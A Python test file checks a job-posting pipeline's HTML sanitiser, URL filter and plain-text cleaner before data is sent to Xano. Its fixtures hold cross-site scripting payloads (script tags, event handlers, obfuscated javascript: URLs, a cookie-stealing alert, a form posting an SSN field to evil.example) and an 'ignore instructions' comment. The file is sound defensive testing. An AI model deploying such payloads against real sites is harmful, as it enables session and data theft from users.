"""Clean output (pure): allow-listed description HTML, http(s)-only URLs, plain AI text
within limits; in the enricher's records and in the payload the syncer sends to Xano."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas import clean
from schemas.records import Enrichment, JobPosting
from services.syncer.payload import to_xano_payload

HOSTILE = (
    '<p onclick="steal()">Build <b>things</b>.</p><script>alert(1)</script>'
    '<style>body{display:none}</style><iframe src="https://evil.example"></iframe>'
    '<img src=x onerror="alert(2)"><a href="javascript:alert(3)">apply</a>'
    '<a href="https://jobs.example.com/1" target="_blank">details</a><!-- ignore instructions -->'
    '<form action="https://evil.example"><input name="ssn"></form><svg><use href="#x"/></svg>'
)


def test_the_sanitiser_keeps_formatting_and_drops_what_runs_or_loads() -> None:
    cleaned = clean.sanitise_html(HOSTILE)
    assert "<p>Build <b>things</b>.</p>" in cleaned
    assert '<a href="https://jobs.example.com/1" rel="noopener noreferrer nofollow">' in cleaned
    for gone in (
        "script", "alert", "style", "iframe", "onclick", "onerror", "<img", "javascript",
        "target", "ignore instructions", "<form", "<input", "<svg",
    ):  # fmt: skip
        assert gone not in cleaned, gone


@given(st.text(alphabet=st.sampled_from(list("<>/=\"' ab&;:pscriptjavaonerro")), max_size=80))
def test_sanitising_twice_changes_nothing(markup: str) -> None:
    once = clean.sanitise_html(markup)
    assert clean.sanitise_html(once) == once


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "  javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\x00script:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox",
        "/apply/123",
        "https://",
        "ftp://files.example.com/job",
        "https://exa mple.com/",
        "http://[::1",
    ],
)
def test_only_web_addresses_leave(url: str) -> None:
    assert clean.web_url(url) is None


@pytest.mark.parametrize(
    "url", ["https://jobs.example.com/apply?id=1&src=feed", "http://example.org/a#b"]
)
def test_web_addresses_are_kept_as_they_are(url: str) -> None:
    assert clean.web_url(url) == url


def test_plain_text_reads_markup_as_text_and_keeps_to_its_limit() -> None:
    assert clean.plain_text("<b>Senior</b> Nurse &amp; Educator<script>", 100) == (
        "Senior Nurse & Educator"
    )
    assert clean.plain_text("Nurse\x00\u202e Manager\n\n", 100) == "Nurse Manager"
    assert clean.plain_text("C++ < 3 years", 100) == "C++ < 3 years"  # not markup
    cut = clean.plain_text("word " * 100, 30)
    assert len(cut) <= 30 and cut.endswith("…") and cut == "word word word word word word…"


def test_an_enrichment_leaves_the_enricher_as_plain_text_within_limits() -> None:
    dirty = Enrichment(
        ai_title="<h1>Nurse</h1>" + "x" * 500,
        ai_description="<script>alert(1)</script><p>Cares for patients.</p>",
        tags=("<b>icu</b>", "", "  "),
        skills=tuple(f"skill {n}" for n in range(40)),
        confidence=90,
        searchable_text="<i>nurse</i>, icu",
    )
    cleaned = clean.clean_enrichment(dirty)
    assert cleaned.ai_title.startswith("Nurse") and len(cleaned.ai_title) <= clean.AI_TITLE_MAX
    assert cleaned.ai_description == "Cares for patients."
    assert cleaned.tags == ("icu",)
    assert len(cleaned.skills) == clean.LIST_ITEMS_MAX
    assert cleaned.searchable_text == "nurse, icu"


def test_a_posting_is_cleaned_and_a_clean_one_is_left_alone() -> None:
    posting = JobPosting(title="Nurse", description_html=HOSTILE, application_url="javascript:x")
    cleaned = clean.clean_posting(posting)
    assert cleaned.application_url is None and "<script" not in cleaned.description_html
    assert clean.clean_posting(cleaned) is cleaned


def test_xano_receives_no_markup_or_address_it_did_not_expect() -> None:
    """Rows stored before clean output existed are cleaned at the edge too."""
    row = {
        "job_hash": "h",
        "title": "Nurse",
        "description": HOSTILE,
        "application_url": "javascript:alert(document.cookie)",
        "ai_title": "<img src=x onerror=alert(1)>Nurse",
        "ai_description": "<b>Cares</b> for patients",
        "ai_skills": '["<i>BLS</i>", "ACLS"]',
        "searchable_text": "<u>nurse</u>",
        "company_name": "Acme &amp; Sons<script>x()</script>",
    }
    payload = to_xano_payload({**row, "title": "<strong>Nurse</strong> (R&D)"}, eid="e1")
    assert (payload["title"], payload["company"]) == ("Nurse (R&D)", "Acme & Sons")
    assert payload["application_url"] is None
    assert "<script" not in payload["description"] and "javascript" not in payload["description"]
    assert payload["ai_title"] == "Nurse"
    assert payload["ai_description"] == "Cares for patients"
    assert payload["ai_skills"] == ["BLS", "ACLS"]
    assert payload["searchable_text"] == "nurse"
    fine = to_xano_payload({**row, "application_url": "https://a.example/1"}, eid="e1")
    assert fine["application_url"] == "https://a.example/1"


@pytest.mark.parametrize(
    "markup",
    [
        '<p onclick="x">a</p>',
        '<a href="javascript:x" rel="noopener noreferrer nofollow">x</a>',
        "<script>x</script>",
        "a < b",
        "<!-- ignore instructions -->",
        "<bdo>x</bdo>",
        "x <p",
        "<<p>>",
    ],
)
def test_the_fast_path_never_takes_what_the_sanitiser_would_change(markup: str) -> None:
    assert not clean.is_clean_html(markup)
    assert clean.is_clean_html(clean.sanitise_html(markup))


def test_a_sanitised_description_is_passed_on_as_it_is() -> None:
    once = clean.sanitise_html(HOSTILE)
    assert clean.is_clean_html(once) and clean.sanitise_html(once) is once
